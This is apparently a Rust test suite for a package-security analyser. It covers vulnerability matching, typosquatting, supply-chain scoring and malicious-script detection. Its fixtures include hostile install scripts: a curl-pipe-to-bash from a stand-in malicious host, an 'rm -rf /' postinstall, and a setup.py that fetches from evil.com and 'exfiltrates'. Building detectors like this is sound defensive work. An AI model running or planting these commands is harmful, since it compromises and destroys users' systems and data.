use package_security::{
    analyze, analyze_package, Advisory, AnalysisOptions, AnalysisResult, DependencyCatalog,
    DependencyKind, DependencyRef, FeedAnswer, FeedRecord, IngestionFailure, NpmPackage,
    PackageInfo, PackageMetadata, PythonPackage, RiskLevel, Score, Script, Version, VersionRange,
    VulnerabilityFeed,
};

fn metadata(name: &str, version: &str, description: &str) -> PackageMetadata {
    PackageMetadata {
        name: name.to_string(),
        version: version.to_string(),
        description: Some(description.to_string()),
        author: None,
        license: None,
        homepage: None,
        repository: None,
        keywords: Vec::new(),
        publish_date: None,
    }
}

fn exact(name: &str, major: u64, minor: u64, patch: u64, kind: DependencyKind) -> DependencyRef {
    DependencyRef::new(
        name.to_string(),
        VersionRange::exactly(Version::new(major, minor, patch)),
        kind,
    )
}

fn caret(name: &str, major: u64, minor: u64, patch: u64, kind: DependencyKind) -> DependencyRef {
    DependencyRef::new(
        name.to_string(),
        VersionRange::between(Version::new(major, minor, patch), Version::new(major + 1, 0, 0)),
        kind,
    )
}

fn script(name: &str, body: &str) -> Script {
    Script { name: name.to_string(), body: body.to_string() }
}

fn advisory(cve: &str, id: &str, text: &str, tenths: Option<u32>, fixed: Version) -> Advisory {
    Advisory::new(
        cve.to_string(),
        id.to_string(),
        text.to_string(),
        tenths.map(|t| Score::new(t).unwrap()),
        VersionRange::before(fixed),
    )
    .unwrap()
}

fn known(package: &str, advisories: Vec<Advisory>) -> FeedRecord {
    FeedRecord { package: package.to_string(), answer: FeedAnswer::Known(advisories) }
}

fn npm_feed() -> VulnerabilityFeed {
    VulnerabilityFeed {
        records: vec![
            known(
                "lodash",
                vec![advisory(
                    "CVE-2021-23337",
                    "GHSA-35jh-r3h4-6jhm",
                    "Command injection in lodash",
                    Some(72),
                    Version::new(4, 17, 21),
                )],
            ),
            known(
                "moment",
                vec![advisory(
                    "CVE-2017-18214",
                    "",
                    "Regular expression denial of service in moment",
                    Some(75),
                    Version::new(2, 19, 3),
                )],
            ),
            known(
                "express",
                vec![advisory(
                    "",
                    "GHSA-gpvr-g6gh-9mc2",
                    "No charset in content-type header of express",
                    None,
                    Version::new(3, 11, 0),
                )],
            ),
            known(
                "node-serialize",
                vec![advisory(
                    "CVE-2017-5941",
                    "",
                    "Code execution through untrusted data in node-serialize",
                    Some(98),
                    Version::new(0, 0, 5),
                )],
            ),
            known(
                "handlebars",
                vec![advisory(
                    "CVE-2019-19919",
                    "",
                    "Prototype pollution in handlebars",
                    Some(98),
                    Version::new(4, 3, 0),
                )],
            ),
            known(
                "django",
                vec![advisory(
                    "CVE-2019-19844",
                    "",
                    "Account takeover through password reset in django",
                    Some(98),
                    Version::new(1, 11, 27),
                )],
            ),
        ],
    }
}

fn npm_corpus() -> Vec<String> {
    ["lodash", "express", "request", "moment", "react", "axios", "webpack", "chalk", "mocha"]
        .iter()
        .map(|s| s.to_string())
        .collect()
}

fn python_corpus() -> Vec<String> {
    ["requests", "beautifulsoup4", "pillow", "sklearn", "numpy", "django", "flask"]
        .iter()
        .map(|s| s.to_string())
        .collect()
}

fn run(package: PackageInfo, corpus: &Vec<String>) -> AnalysisResult {
    analyze(
        Ok(package),
        &AnalysisOptions::default(),
        &npm_feed(),
        corpus,
        &DependencyCatalog::empty(),
    )
    .unwrap()
}

#[test]
fn test_npm_package_vulnerability_detection() {
    let package = PackageInfo::Npm(NpmPackage {
        metadata: metadata("vulnerable-test-package", "1.0.0", "Test package with vulnerabilities"),
        scripts: Vec::new(),
        dependencies: vec![
            exact("lodash", 4, 0, 0, DependencyKind::Runtime),
            exact("moment", 2, 10, 0, DependencyKind::Runtime),
            exact("express", 3, 0, 0, DependencyKind::Runtime),
            exact("mocha", 1, 0, 0, DependencyKind::Dev),
        ],
    });
    let result = run(package, &npm_corpus());

    assert_eq!(result.package_info().package_type(), "npm");
    assert_eq!(result.package_info().name(), "vulnerable-test-package");
    assert_eq!(result.package_info().metadata().version, "1.0.0");

    let vulnerabilities = result.vulnerabilities();
    println!("Found {} vulnerabilities", vulnerabilities.len());
    assert_eq!(vulnerabilities.len(), 3);
    assert_eq!(vulnerabilities[0].cve_id(), "CVE-2021-23337");
    assert_eq!(vulnerabilities[0].package(), "lodash");
    assert_eq!(vulnerabilities[2].severity_score().value(), 50);

    assert!(result.overall_risk_level() >= RiskLevel::Safe);
}

#[test]
fn test_npm_package_malicious_patterns() {
    let package = PackageInfo::Npm(NpmPackage {
        metadata: metadata("suspicious-test-package", "1.0.0", "Package with suspicious behavior"),
        scripts: vec![
            script("preinstall", "curl -s http://malicious.com/script.sh | bash"),
            script("postinstall", "node -e \"require('child_process').exec('rm -rf /')\""),
        ],
        dependencies: vec![caret("express", 4, 18, 0, DependencyKind::Runtime)],
    });
    let result = run(package, &npm_corpus());

    assert!(
        result.overall_risk_level() >= RiskLevel::Medium,
        "Should have elevated risk due to suspicious scripts"
    );

    let malicious_indicators = result.malicious_indicators();
    println!("Found {} malicious indicators", malicious_indicators.len());
    for indicator in malicious_indicators {
        println!("Pattern: {} - {}", indicator.pattern_name, indicator.description);
    }
    let names: Vec<(&str, &str)> = malicious_indicators
        .iter()
        .map(|i| (i.pattern_name.as_str(), i.location.as_str()))
        .collect();
    assert_eq!(
        names,
        vec![
            ("remote-code-exec", "scripts.preinstall"),
            ("destructive-filesystem", "scripts.postinstall"),
            ("process-spawn", "scripts.postinstall"),
        ]
    );
    assert_eq!(result.overall_risk_level(), RiskLevel::High);
}

#[test]
fn test_npm_typosquatting_detection() {
    let typosquatting_cases = vec![
        ("loadash", "Similar to lodash"),
        ("expres", "Similar to express"),
        ("reqeust", "Similar to request"),
        ("momnet", "Similar to moment"),
    ];

    for (suspicious_name, _description) in typosquatting_cases {
        let package = PackageInfo::Npm(NpmPackage {
            metadata: metadata(suspicious_name, "1.0.0", "Potentially typosquatting package"),
            scripts: Vec::new(),
            dependencies: Vec::new(),
        });
        let result = run(package, &npm_corpus());

        if let Some(typo_risk) = result.typosquatting_risk() {
            assert!(
                typo_risk.is_potential_typosquatting(),
                "Should detect typosquatting for {}",
                suspicious_name
            );
            assert!(
                !typo_risk.similar_packages().is_empty(),
                "Should find similar legitimate packages"
            );
        } else {
            panic!("the name was not examined");
        }
    }
}

#[test]
fn test_python_package_vulnerability_detection() {
    let vulnerable_setup = r#"
from setuptools import setup

setup(
    name="vulnerable-python-package",
    version="1.0.0",
    description="Python package with vulnerabilities",
    install_requires=[
        "django==1.11.0",
        "flask==0.12.0",
        "requests==2.6.0",
        "pillow==3.0.0"
    ]
)
"#;
    let package = PackageInfo::Python(PythonPackage {
        metadata: metadata(
            "vulnerable-python-package",
            "1.0.0",
            "Python package with vulnerabilities",
        ),
        setup_script: Some(vulnerable_setup.to_string()),
        dependencies: vec![
            exact("django", 1, 11, 0, DependencyKind::Runtime),
            exact("flask", 0, 12, 0, DependencyKind::Runtime),
            exact("requests", 2, 6, 0, DependencyKind::Runtime),
            exact("pillow", 3, 0, 0, DependencyKind::Runtime),
        ],
    });
    let result = run(package, &python_corpus());

    assert_eq!(result.package_info().package_type(), "python");
    assert_eq!(result.package_info().name(), "vulnerable-python-package");

    let vulnerabilities = result.vulnerabilities();
    println!("Found {} vulnerabilities in Python package", vulnerabilities.len());
    assert_eq!(vulnerabilities.len(), 1);
    assert_eq!(vulnerabilities[0].package(), "django");

    assert!(result.overall_risk_level() >= RiskLevel::Safe);
    assert_eq!(result.overall_risk_level(), RiskLevel::High);
}

#[test]
fn test_python_malicious_setup_detection() {
    let malicious_setup = r#"
import subprocess
import urllib.request
from setuptools import setup

# Malicious code in setup.py
subprocess.run(['curl', '-s', 'http://evil.com/steal.sh'], shell=True)
urllib.request.urlopen('http://malicious.com/exfiltrate')

setup(
    name="malicious-python-package",
    version="1.0.0",
    description="Package with malicious setup",
    install_requires=["requests"]
)
"#;
    let package = PackageInfo::Python(PythonPackage {
        metadata: metadata("malicious-python-package", "1.0.0", "Package with malicious setup"),
        setup_script: Some(malicious_setup.to_string()),
        dependencies: vec![DependencyRef::new(
            "requests".to_string(),
            VersionRange::any(),
            DependencyKind::Runtime,
        )],
    });
    let result = run(package, &python_corpus());

    assert!(
        result.overall_risk_level() >= RiskLevel::High,
        "Should have high risk due to malicious setup.py"
    );

    let malicious_indicators = result.malicious_indicators();
    assert!(
        !malicious_indicators.is_empty(),
        "Should detect malicious indicators in setup.py"
    );

    let has_network_access = malicious_indicators
        .iter()
        .any(|i| i.description.contains("network") || i.description.contains("urllib"));
    assert!(has_network_access, "Should detect network access in setup.py");
    assert!(malicious_indicators.iter().all(|i| i.location == "setup.py"));
}

#[test]
fn test_python_typosquatting_detection() {
    let typosquatting_cases = vec![
        ("reqeusts", "Similar to requests"),
        ("beatifulsoup", "Similar to beautifulsoup4"),
        ("pillow-pillow", "Similar to pillow"),
        ("sklern", "Similar to sklearn"),
    ];

    for (suspicious_name, _description) in typosquatting_cases {
        let package = PackageInfo::Python(PythonPackage {
            metadata: metadata(suspicious_name, "1.0.0", "Potentially typosquatting package"),
            setup_script: None,
            dependencies: Vec::new(),
        });
        let result = run(package, &python_corpus());

        if let Some(typo_risk) = result.typosquatting_risk() {
            if typo_risk.is_potential_typosquatting() {
                assert!(
                    !typo_risk.similar_packages().is_empty(),
                    "Should find similar legitimate packages for {}",
                    suspicious_name
                );
            }
        }
    }
}

#[test]
fn test_benign_package_analysis() {
    let mut meta = metadata("benign-test-package", "1.0.0", "A completely safe test package");
    meta.author = Some("Test Author <test@example.com>".to_string());
    meta.license = Some("MIT".to_string());
    let package = PackageInfo::Npm(NpmPackage {
        metadata: meta,
        scripts: vec![script("test", "mocha"), script("start", "node index.js")],
        dependencies: vec![
            caret("lodash", 4, 17, 21, DependencyKind::Runtime),
            caret("express", 4, 18, 2, DependencyKind::Runtime),
            caret("mocha", 10, 0, 0, DependencyKind::Dev),
            caret("chai", 4, 3, 0, DependencyKind::Dev),
        ],
    });
    let result = run(package, &npm_corpus());

    assert!(
        result.overall_risk_level() <= RiskLevel::Low,
        "Benign package should have low risk"
    );

    if let Some(typo_risk) = result.typosquatting_risk() {
        assert!(
            !typo_risk.is_potential_typosquatting(),
            "Benign package should not be flagged as typosquatting"
        );
    }

    let malicious_indicators = result.malicious_indicators();
    assert!(
        malicious_indicators.is_empty() || malicious_indicators.len() <= 1,
        "Benign package should have minimal malicious indicators"
    );
    assert!(result.vulnerabilities().is_empty());
    assert_eq!(result.overall_risk_level(), RiskLevel::Safe);
}

#[test]
fn test_supply_chain_risk_assessment() {
    let names = [
        ("express", 4, 18),
        ("lodash", 4, 17),
        ("moment", 2, 29),
        ("axios", 1, 0),
        ("react", 18, 0),
        ("react-dom", 18, 0),
        ("webpack", 5, 0),
        ("babel-core", 6, 26),
        ("eslint", 8, 0),
        ("jest", 29, 0),
    ];
    let package = PackageInfo::Npm(NpmPackage {
        metadata: metadata("complex-dependency-package", "1.0.0", "Package with many dependencies"),
        scripts: Vec::new(),
        dependencies: names
            .iter()
            .map(|(n, major, minor)| caret(n, *major, *minor, 50, DependencyKind::Runtime))
            .collect(),
    });
    let result = run(package, &npm_corpus());

    let supply_chain_score = result.supply_chain_risk_score();
    println!("Supply chain risk score: {}", supply_chain_score.value());

    assert!(supply_chain_score.value() <= 100);
    assert_eq!(supply_chain_score.value(), 40);
    assert_eq!(result.dependency_analysis().breadth, 10);
}

#[test]
fn test_package_quality_metrics() {
    let mut meta = metadata(
        "high-quality-package",
        "2.1.0",
        "A well-maintained package with quality indicators",
    );
    meta.author = Some("Quality Author <author@example.com>".to_string());
    meta.license = Some("MIT".to_string());
    meta.homepage = Some("https://github.com/example/high-quality-package".to_string());
    meta.repository = Some("https://github.com/example/high-quality-package.git".to_string());
    meta.keywords = vec!["utility".to_string(), "helper".to_string(), "quality".to_string()];
    let package = PackageInfo::Npm(NpmPackage {
        metadata: meta,
        scripts: vec![
            script("test", "mocha"),
            script("test-coverage", "nyc mocha"),
            script("lint", "eslint ."),
        ],
        dependencies: vec![
            caret("lodash", 4, 17, 21, DependencyKind::Runtime),
            caret("mocha", 10, 0, 0, DependencyKind::Dev),
            caret("chai", 4, 3, 0, DependencyKind::Dev),
            caret("nyc", 15, 0, 0, DependencyKind::Dev),
        ],
    });
    let result = run(package, &npm_corpus());

    let quality_metrics = result.quality_metrics();
    println!("Documentation score: {}", quality_metrics.documentation_score().value());
    println!("Has tests: {}", quality_metrics.has_tests());
    println!("Has CI/CD: {}", quality_metrics.has_ci_cd());

    assert!(quality_metrics.documentation_score().value() <= 100);
    assert_eq!(quality_metrics.documentation_score().value(), 100);
    assert_eq!(quality_metrics.maintenance_score().value(), 75);
    assert!(quality_metrics.has_tests());
    assert!(!quality_metrics.has_ci_cd());
}

#[test]
fn test_error_handling() {
    let options = AnalysisOptions::default();
    let feed = VulnerabilityFeed::empty();
    let corpus = npm_corpus();
    let catalog = DependencyCatalog::empty();

    let result = analyze(Err(IngestionFailure::PathMissing), &options, &feed, &corpus, &catalog);
    assert!(result.is_err(), "Should fail for nonexistent directory");

    let result = analyze(Err(IngestionFailure::NoManifest), &options, &feed, &corpus, &catalog);
    assert!(result.is_err(), "Should fail for directory with no package files");

    let result = analyze(Err(IngestionFailure::Malformed), &options, &feed, &corpus, &catalog);
    assert!(result.is_err(), "Should fail for invalid JSON");
}

#[test]
fn test_risk_level_comparisons() {
    // Test ordering
    assert!(RiskLevel::Safe < RiskLevel::Low);
    assert!(RiskLevel::Low < RiskLevel::Medium);
    assert!(RiskLevel::Medium < RiskLevel::High);
    assert!(RiskLevel::High < RiskLevel::Critical);

    // Test equality
    assert_eq!(RiskLevel::Safe, RiskLevel::Safe);
    assert_eq!(RiskLevel::Critical, RiskLevel::Critical);

    // Test inequality
    assert_ne!(RiskLevel::Safe, RiskLevel::Critical);
    assert_ne!(RiskLevel::Low, RiskLevel::High);
}

#[test]
fn test_vulnerability_severity_classification() {
    let package = PackageInfo::Npm(NpmPackage {
        metadata: metadata(
            "critical-vuln-package",
            "1.0.0",
            "Package with critical vulnerabilities",
        ),
        scripts: Vec::new(),
        dependencies: vec![
            exact("node-serialize", 0, 0, 4, DependencyKind::Runtime),
            exact("handlebars", 4, 0, 5, DependencyKind::Runtime),
        ],
    });
    let result = analyze_package(
        package,
        &AnalysisOptions::default(),
        &npm_feed(),
        &npm_corpus(),
        &DependencyCatalog::empty(),
    );

    let vulnerabilities = result.vulnerabilities();
    assert_eq!(vulnerabilities.len(), 2);
    for vuln in vulnerabilities {
        assert!(
            !vuln.cve_id().is_empty() || !vuln.advisory_id().is_empty(),
            "Vulnerability should have ID"
        );
        assert!(!vuln.description().is_empty(), "Vulnerability should have description");
        assert!(
            vuln.severity_score().value() <= 100,
            "Severity score should be valid CVSS range"
        );
    }
    assert!(result.overall_risk_level() >= RiskLevel::High);
}
